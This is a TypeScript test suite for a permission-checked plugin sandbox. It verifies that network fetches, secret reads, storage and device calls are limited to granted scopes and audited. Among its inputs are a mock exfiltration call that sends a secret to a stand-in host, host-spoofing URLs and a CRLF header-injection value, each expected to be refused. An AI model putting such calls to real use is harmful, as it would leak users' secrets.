import type { Permission } from '@mlebotics/shared';
import { describe, expect, it } from 'vitest';
import { BridgeError } from './errors.js';
import { load, type LoadedPlugin } from './load.js';
import { ALL_PERMISSIONS, manifestFor, recordingServices, signedPlugin } from './test-support.js';

const ANY = { type: 'object' };

/** A plugin whose step `run` evaluates `body` (an async function body with `input`, `ctx`). */
async function pluginRunning(body: string, grants: Permission[] = ALL_PERMISSIONS): Promise<LoadedPlugin> {
  const manifest = manifestFor(
    'acme.bridges',
    { run: { inputSchema: ANY, outputSchema: {} } },
    { permissions: ALL_PERMISSIONS },
  );
  const plugin = await signedPlugin(manifest, {
    'index.js': `export default { steps: { async run(input, ctx) {\n${body}\n} } };\n`,
  });
  return load(plugin.artifact, plugin.envelope, plugin.keys, grants);
}

describe('bridges', () => {
  it('fetch: sends a checked request to a granted host and returns plain JSON', async () => {
    const plugin = await pluginRunning(`
      const res = await ctx.fetch('https://api.weather.com/v1/now?city=Oslo', { method: 'post', headers: { 'X-Key': 'k' }, body: '{}' });
      return { res, proto: Object.getPrototypeOf(res) === Object.prototype, headersProto: Object.getPrototypeOf(res.headers) === Object.prototype };
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual({
      res: {
        status: 200,
        ok: true,
        headers: { 'content-type': 'text/plain' },
        body: 'fetched https://api.weather.com/v1/now?city=Oslo',
      },
      proto: true,
      headersProto: true,
    });
    expect(rec.fetched).toHaveLength(1);
    const request = rec.fetched[0]!;
    expect(request.url).toBeInstanceOf(URL);
    expect(request).toMatchObject({
      method: 'POST',
      headers: { 'x-key': 'k' },
      body: '{}',
      maxResponseBytes: 1024 * 1024,
    });
    expect(rec.audits).toEqual([
      {
        permission: 'network:fetch',
        operation: 'fetch',
        allowed: true,
        detail: { method: 'POST', url: 'https://api.weather.com/v1/now' },
      },
    ]);
  });

  it('fetch: matches host and port exactly', async () => {
    const plugin = await pluginRunning(`
      const out = [];
      for (const url of input.urls) {
        try { await ctx.fetch(url); out.push('ok'); } catch (e) { out.push(e.name); }
      }
      return out;
    `);
    const rec = recordingServices();
    const urls = [
      'https://api.weather.com/',
      'https://API.Weather.com:443/x',
      'https://data.example.org:8443/feed',
      'https://data.example.org/feed',
      'https://api.weather.com:8443/',
      'https://api.weather.com.evil.net/',
      'https://evil.net/?https://api.weather.com/',
      'http://api.weather.com/',
      'https://user:pw@api.weather.com/',
      'ftp://api.weather.com/',
      'not a url',
    ];
    const { output } = await plugin.runStep('run', { urls }, { services: rec.services, audit: rec.audit });
    expect(output).toEqual([
      'ok',
      'ok',
      'ok',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'PermissionDeniedError',
      'TypeError',
    ]);
    expect(rec.fetched.map((r) => r.url.host)).toEqual(['api.weather.com', 'api.weather.com', 'data.example.org:8443']);
    expect(rec.audits.filter((a) => !a.allowed)).toHaveLength(8);
    expect(rec.audits.every((a) => a.permission === 'network:fetch' && a.operation === 'fetch')).toBe(true);
  });

  it('fetch to an undeclared host is denied, audited, and fails the step with permission-denied when uncaught', async () => {
    const plugin = await pluginRunning(`return await ctx.fetch('https://exfiltrate.example.net/?d=' + input.secret);`);
    const rec = recordingServices();
    await expect(
      plugin.runStep('run', { secret: 'abc' }, { services: rec.services, audit: rec.audit }),
    ).rejects.toMatchObject({
      code: 'permission-denied',
      message: expect.stringContaining('exfiltrate.example.net is not a host this plugin may reach'),
    });
    expect(rec.fetched).toHaveLength(0);
    expect(rec.audits).toEqual([
      {
        permission: 'network:fetch',
        operation: 'fetch',
        allowed: false,
        detail: {
          url: 'https://exfiltrate.example.net/',
          reason: expect.stringContaining('is not a host this plugin may reach'),
        },
      },
    ]);
  });

  it('fetch: refuses host-controlled headers, bodies on GET and oversized responses', async () => {
    const plugin = await pluginRunning(`
      const out = [];
      const tries = [
        () => ctx.fetch('https://api.weather.com/', { headers: { Host: 'internal' } }),
        () => ctx.fetch('https://api.weather.com/', { headers: { 'x-a': 'a\\r\\nx-b: b' } }),
        () => ctx.fetch('https://api.weather.com/', { body: 'x' }),
        () => ctx.fetch('https://api.weather.com/', { method: 'CONNECT' }),
        () => ctx.fetch('https://api.weather.com/', { redirect: 'follow' }),
        () => ctx.fetch('https://api.weather.com/big'),
      ];
      for (const t of tries) { try { await t(); out.push('ok'); } catch (e) { out.push(e.name + ': ' + e.message); } }
      return out;
    `);
    const rec = recordingServices({
      fetch: async () => ({ status: 200, headers: {}, body: 'x'.repeat(2048) }),
    });
    const { output } = await plugin.runStep(
      'run',
      {},
      { services: rec.services, audit: rec.audit, limits: { maxResponseBytes: 1024 } },
    );
    expect(output).toEqual([
      'TypeError: ctx.fetch: the host header is set by the host and cannot be given.',
      'TypeError: ctx.fetch: the x-a header must be a one-line string.',
      'TypeError: ctx.fetch: a GET request has no body.',
      'TypeError: ctx.fetch: method "CONNECT" is not one of GET, HEAD, POST, PUT, PATCH, DELETE.',
      'TypeError: ctx.fetch(url, init): init has unknown field "redirect" (allowed: method, headers, body).',
      'Error: The response from api.weather.com is larger than 1 KiB of UTF-8.',
    ]);
  });

  it('storage: get, set, delete and list go to the scoped service', async () => {
    const plugin = await pluginRunning(`
      await ctx.storage.set('last', { celsius: 21.5, at: 'noon' });
      await ctx.storage.set('other', 1);
      const got = await ctx.storage.get('last');
      const keys = await ctx.storage.list('la');
      await ctx.storage.delete('last');
      return { got, keys, after: await ctx.storage.get('last') ?? null };
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual({ got: { celsius: 21.5, at: 'noon' }, keys: ['last'], after: null });
    expect(rec.audits.map((a) => `${a.operation} ${JSON.stringify(a.detail)}`)).toEqual([
      'storage.set {"key":"last"}',
      'storage.set {"key":"other"}',
      'storage.get {"key":"last"}',
      'storage.list {"prefix":"la"}',
      'storage.delete {"key":"last"}',
      'storage.get {"key":"last"}',
    ]);
  });

  it('sensors, actuators, automation and notifications reach their services', async () => {
    const plugin = await pluginRunning(`
      const reading = await ctx.sensors.read('line-1', { unit: 'C' });
      const moved = await ctx.actuators.command('gripper', { close: true });
      const flow = await ctx.automation.execute('restock', { bin: 4 });
      await ctx.notifications.send({ title: 'Hot', body: 'Line 1 is hot', severity: 'warning' });
      return { reading, moved, flow };
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual({
      reading: { sensorId: 'line-1', celsius: 21.5 },
      moved: { accepted: true },
      flow: { runId: 'run-1' },
    });
    expect(rec.calls).toEqual([
      { service: 'sensors.read', args: ['line-1', { unit: 'C' }] },
      { service: 'actuators.command', args: ['gripper', { close: true }] },
      { service: 'automation.execute', args: ['restock', { bin: 4 }] },
      { service: 'notifications.send', args: [{ title: 'Hot', body: 'Line 1 is hot', severity: 'warning' }] },
    ]);
    expect(rec.audits.map((a) => [a.permission, a.operation, a.allowed])).toEqual([
      ['sensors:read', 'sensors.read', true],
      ['actuators:command', 'actuators.command', true],
      ['automation:execute', 'automation.execute', true],
      ['notifications:send', 'notifications.send', true],
    ]);
  });

  it('a step’s notification is refused at the call by the service’s own limits', async () => {
    const plugin = await pluginRunning(`
      const tries = [
        { title: 't'.repeat(121), body: 'b' },
        { title: 'Hot', body: '' },
        { title: 'Hot', body: 'b'.repeat(1001) },
      ];
      const out = [];
      for (const n of tries) {
        try { await ctx.notifications.send(n); out.push('sent'); } catch (e) { out.push(e.name); }
      }
      await ctx.notifications.send({ title: 't'.repeat(120), body: 'b'.repeat(1000) });
      return out;
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual(['TypeError', 'TypeError', 'TypeError']);
    expect(rec.calls.map((c) => c.service)).toEqual(['notifications.send']);
  });

  it('secrets: only granted names are readable; others are denied and audited without values', async () => {
    const plugin = await pluginRunning(
      `
      const key = await ctx.secrets.read('WEATHER_KEY');
      let other;
      try { await ctx.secrets.read('OTHER_KEY'); } catch (e) { other = e.name + ': ' + e.message; }
      return { key, other };
    `,
      [{ name: 'secrets:read', reason: 'r', secrets: ['WEATHER_KEY'] }],
    );
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual({
      key: 'value-of-WEATHER_KEY',
      other:
        'PermissionDeniedError: ctx.secrets.read: this plugin may not read the secret "OTHER_KEY" (granted: WEATHER_KEY).',
    });
    expect(rec.audits).toEqual([
      { permission: 'secrets:read', operation: 'secrets.read', allowed: true, detail: { name: 'WEATHER_KEY' } },
      {
        permission: 'secrets:read',
        operation: 'secrets.read',
        allowed: false,
        detail: { name: 'OTHER_KEY', reason: expect.stringContaining('may not read') },
      },
    ]);
    expect(JSON.stringify(rec.audits)).not.toContain('value-of');
  });

  it('ungranted or undeclared permissions are absent from ctx and globalThis', async () => {
    const manifest = manifestFor(
      'acme.partial',
      { run: { inputSchema: ANY, outputSchema: {} } },
      { permissions: [ALL_PERMISSIONS[0]!, ALL_PERMISSIONS[4]!] },
    );
    const plugin = await signedPlugin(manifest, {
      'index.js': `export default { steps: { run: (input, ctx) => ({
        ctx: Object.getOwnPropertyNames(ctx).sort(),
        has: ['fetch', 'secrets', 'actuators', 'automation', 'notifications', 'storage'].map((k) => k in ctx),
        globals: ['fetch', 'ctx', 'storage', 'secrets', 'sensors', 'process', 'require', 'XMLHttpRequest', 'setTimeout'].filter((k) => k in globalThis),
        frozen: Object.isFrozen(ctx),
      }) } };\n`,
    });
    // sensors:read is declared and granted; storage:plugin is declared but not granted; the
    // network grant is for a permission the manifest does not declare.
    const loaded = await load(plugin.artifact, plugin.envelope, plugin.keys, [
      { name: 'sensors:read', reason: 'r' },
      { name: 'network:fetch', reason: 'r', hosts: ['api.weather.com'] },
    ]);
    const rec = recordingServices();
    const { output } = await loaded.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual({
      ctx: ['log', 'sensors'],
      has: [false, false, false, false, false, false],
      globals: [],
      frozen: true,
    });
  });

  it('argument errors are TypeErrors in the sandbox and audited as refused', async () => {
    const plugin = await pluginRunning(`
      const out = [];
      for (const t of [() => ctx.storage.get(42), () => ctx.storage.set('k'), () => ctx.sensors.read('s', 'q'), () => ctx.storage.set('k', 10n)]) {
        try { await t(); out.push('ok'); } catch (e) { out.push(e instanceof TypeError); }
      }
      return out;
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toEqual([true, true, true, true]);
    expect(rec.calls).toEqual([]);
    // The BigInt argument fails to copy in the sandbox; it is refused and audited like the others.
    expect(rec.audits.map((a) => a.allowed)).toEqual([false, false, false, false]);
  });

  it('service errors: BridgeError messages pass, anything else becomes a generic message', async () => {
    const plugin = await pluginRunning(`
      const out = [];
      for (const key of ['quota', 'crash']) {
        try { await ctx.storage.get(key); } catch (e) { out.push(e.message); }
      }
      return out;
    `);
    const reported: unknown[] = [];
    const rec = recordingServices({
      storage: {
        async get(key) {
          if (key === 'quota') throw new BridgeError('Storage quota of 1 MiB reached.');
          throw new Error('ECONNREFUSED /var/run/secret-db.sock');
        },
        set: async () => undefined,
        delete: async () => undefined,
        list: async () => [],
      },
    });
    const { output } = await plugin.runStep(
      'run',
      {},
      { services: rec.services, audit: rec.audit, onServiceError: (error) => reported.push(error) },
    );
    expect(output).toEqual([
      'Storage quota of 1 MiB reached.',
      expect.stringMatching(/^The host could not complete storage.get: the platform service failed/),
    ]);
    expect(reported).toHaveLength(1);
    expect(String(reported[0])).toContain('secret-db.sock');
  });

  it('a granted bridge whose service the host lacks fails when called', async () => {
    const plugin = await pluginRunning(`try { await ctx.sensors.read('x'); } catch (e) { return e.message; }`);
    const rec = recordingServices({ sensors: undefined });
    const { output } = await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit });
    expect(output).toBe('ctx.sensors is not available on this host.');
    expect(rec.audits).toEqual([expect.objectContaining({ permission: 'sensors:read', allowed: false })]);
  });

  it('a failing audit sink refuses the call', async () => {
    const plugin = await pluginRunning(
      `try { await ctx.secrets.read('WEATHER_KEY'); return 'read'; } catch (e) { return e.message; }`,
    );
    const rec = recordingServices();
    const { output } = await plugin.runStep(
      'run',
      {},
      {
        services: rec.services,
        audit: () => {
          throw new Error('audit log unavailable');
        },
      },
    );
    expect(output).toBe('The host could not record secrets.read, so the call was refused.');
    expect(rec.calls).toEqual([]);
  });

  it('ctx.log goes to services.log, bounded', async () => {
    const plugin = await pluginRunning(`
      ctx.log('reading', 3, { unit: 'C' });
      for (let i = 0; i < 500; i++) ctx.log('line ' + i);
      return null;
    `);
    const rec = recordingServices();
    await plugin.runStep('run', {}, { services: rec.services, audit: rec.audit, limits: { maxLogLines: 10 } });
    expect(rec.logs).toHaveLength(10);
    expect(rec.logs[0]).toEqual({ level: 'info', message: 'reading 3 {"unit":"C"}' });
    expect(rec.audits).toEqual([]);
  });

  it('limits host calls in flight', async () => {
    const plugin = await pluginRunning(`
      const calls = [];
      let refused = 0;
      for (let i = 0; i < 6; i++) {
        try { calls.push(ctx.sensors.read('s' + i)); } catch (e) { refused += 1; }
      }
      await Promise.all(calls);
      return { started: calls.length, refused };
    `);
    const rec = recordingServices();
    const { output } = await plugin.runStep(
      'run',
      {},
      { services: rec.services, audit: rec.audit, limits: { maxPendingCalls: 4 } },
    );
    expect(output).toEqual({ started: 4, refused: 2 });
    expect(rec.audits.map((a) => a.allowed)).toEqual([true, true, true, true, false, false]);
  });
});
